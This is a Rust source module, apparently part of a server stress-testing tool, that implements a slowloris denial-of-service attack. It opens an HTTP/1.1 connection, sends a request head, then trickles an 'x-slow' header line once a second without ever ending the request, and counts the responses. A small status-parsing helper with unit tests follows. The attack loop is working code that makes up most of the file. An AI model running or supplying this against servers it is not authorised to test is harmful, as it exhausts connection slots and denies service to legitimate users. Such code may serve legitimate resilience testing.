//! Slow headers: the head of a request that never ends (slowloris).

use std::time::Duration;

use super::door::Speaks;
use super::ground::Ground;

/// From one line to the next.
const INTERVAL: Duration = Duration::from_secs(1);

pub(super) async fn attack(ground: &Ground<'_>) {
    let Some(mut stream) = ground.open(Speaks::Http1, None).await else {
        return;
    };
    let endpoint = ground.door.endpoint();
    let head = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n",
        endpoint.path_and_query(),
        endpoint.authority()
    );
    let mut line = head.into_bytes();
    let mut buffer = [0; 1024];
    while ground.leave(1).await.is_some() {
        if ground.send(&mut stream, &line).await.is_err() {
            ground.tally.ended();
            return;
        }
        ground.tally.sent(1);
        line = b"x-slow: 1\r\n".to_vec();
        match ground.read(&mut stream, &mut buffer, INTERVAL).await {
            Some(0) => return ground.tally.ended(),
            Some(_) => ground.tally.status(status_of(&buffer)),
            None => {}
        }
    }
}

/// The status in the first line of a response, 0 if that is none.
pub(super) fn status_of(response: &[u8]) -> u16 {
    let digits = response.get(9..12).unwrap_or_default();
    let is_http = response.starts_with(b"HTTP/1.");
    let status = std::str::from_utf8(digits).ok().filter(|_| is_http);
    status.and_then(|text| text.parse().ok()).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::status_of;

    #[test]
    fn a_status_is_found_where_there_is_one() {
        assert_eq!(status_of(b"HTTP/1.1 408 Request Timeout\r\n"), 408);
        for other in [&b"HTTP/1.1 4"[..], b"", b"SSH-2.0-x 408", b"HTTP/1.1 abc"] {
            assert_eq!(status_of(other), 0);
        }
    }
}
